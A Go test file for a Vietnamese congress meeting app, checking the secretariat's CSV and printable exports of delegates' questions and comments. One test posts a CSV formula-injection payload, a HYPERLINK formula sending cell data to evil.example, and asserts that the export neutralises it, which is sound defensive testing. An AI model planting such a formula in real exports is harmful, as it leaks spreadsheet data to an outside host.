package server_test

import (
	"context"
	"strings"
	"testing"

	"github.com/daihoi/daihoi"
)

// A delegate's comment written as a spreadsheet formula reaches the secretariat's CSV as text, not
// as a link Excel would open.
func TestCommentsCSVHoldsNoFormula(t *testing.T) {
	h := startHall(t)
	ctx := context.Background()
	doc := h.Demo.Documents[0]
	tablet := h.Tablet(h.Officials(1)[0])
	formula := `=HYPERLINK("http://evil.example/?c="&A2,"Xem tài liệu")`
	if err := tablet.Post(ctx, "/api/comments", daihoi.CommentRequest{Document: doc.ID, Section: doc.Sections[0].Number, Text: formula}, nil); err != nil {
		t.Fatal(err)
	}
	var csv []byte
	if err := h.Login("thuky1").Do(ctx, "GET", "/api/comments.csv", nil, &csv); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(csv), `"'=HYPERLINK(""http://evil.example/?c=""&A2,""Xem tài liệu"")"`) {
		t.Fatalf("the comment is not neutralised in the CSV:\n%s", csv)
	}
	for _, line := range strings.Split(string(csv), "\n") {
		if strings.Contains(line, ",=") || strings.Contains(line, `,"=`) {
			t.Fatalf("a cell starts with =: %q", line)
		}
	}
}

// The secretariat's CSV and printable page carry the delegates' questions to the presidium, as its
// screen lists them: by topic in the congress's order, the open ones first, each with who asked
// and whether it was answered; then the comments on the drafts.
func TestSecretariatExportsCarryTheQuestions(t *testing.T) {
	h := startHall(t)
	ctx := context.Background()
	topics := h.Demo.Topics
	ds := h.Officials(2)
	asks := []struct {
		by    int
		topic string
		text  string
	}{
		{0, topics[1], "Khi nào phường hoàn thành chỉnh trang vỉa hè đường Lê Lợi?"},
		{1, topics[0], "Đề nghị làm rõ chỉ tiêu kết nạp đảng viên mới mỗi năm."},
		{1, topics[1], "Kinh phí chống ngập lấy từ nguồn nào?"},
	}
	var ids []string
	for _, a := range asks {
		var q daihoi.Question
		if err := h.Tablet(ds[a.by]).Post(ctx, "/api/questions", daihoi.QuestionRequest{Topic: a.topic, Text: a.text}, &q); err != nil {
			t.Fatal(err)
		}
		ids = append(ids, q.ID)
	}
	sec := h.Login("thuky1")
	if err := sec.Post(ctx, "/api/questions/"+ids[0]+"/answered", nil, nil); err != nil {
		t.Fatal(err)
	}
	doc := h.Demo.Documents[0]
	if err := h.Tablet(ds[0]).Post(ctx, "/api/comments", daihoi.CommentRequest{Document: doc.ID, Section: doc.Sections[0].Number, Text: "Nên bổ sung số liệu năm 2025."}, nil); err != nil {
		t.Fatal(err)
	}

	var csv []byte
	if err := sec.Do(ctx, "GET", "/api/comments.csv", nil, &csv); err != nil {
		t.Fatal(err)
	}
	lines := strings.Split(strings.TrimSpace(string(csv)), "\n")
	if len(lines) != 5 {
		t.Fatalf("the CSV has %d lines, want a header, 3 questions and a comment:\n%s", len(lines), csv)
	}
	// By topic in the congress's order; in a topic, the open one before the answered.
	for i, want := range []struct{ topic, text, who, answered string }{
		{topics[0], asks[1].text, ds[1].Name, "Chưa trả lời"},
		{topics[1], asks[2].text, ds[1].Name, "Chưa trả lời"},
		{topics[1], asks[0].text, ds[0].Name, "Đã trả lời"},
	} {
		line := lines[1+i]
		for _, part := range []string{"Câu hỏi gửi Đoàn Chủ tịch", want.topic, want.text, want.who, want.answered} {
			if !strings.Contains(line, part) {
				t.Errorf("CSV line %d lacks %q: %s", 1+i, part, line)
			}
		}
	}
	if !strings.Contains(lines[4], "Nên bổ sung số liệu năm 2025.") || !strings.Contains(lines[4], doc.Title) {
		t.Errorf("the comment follows the questions: %s", lines[4])
	}

	var page []byte
	if err := sec.Do(ctx, "GET", "/print/comments", nil, &page); err != nil {
		t.Fatal(err)
	}
	html := string(page)
	for _, want := range []string{"Câu hỏi của đại biểu gửi Đoàn Chủ tịch", "3 câu hỏi, 2 chưa trả lời", topics[0], asks[0].text, asks[1].text, asks[2].text, ds[0].Name, "Đã trả lời", "Nên bổ sung số liệu năm 2025."} {
		if !strings.Contains(html, want) {
			t.Errorf("the printable page lacks %q", want)
		}
	}
	if strings.Index(html, asks[1].text) > strings.Index(html, asks[2].text) || strings.Index(html, asks[2].text) > strings.Index(html, asks[0].text) {
		t.Errorf("the printable page does not list the questions by topic, the open ones first")
	}
}
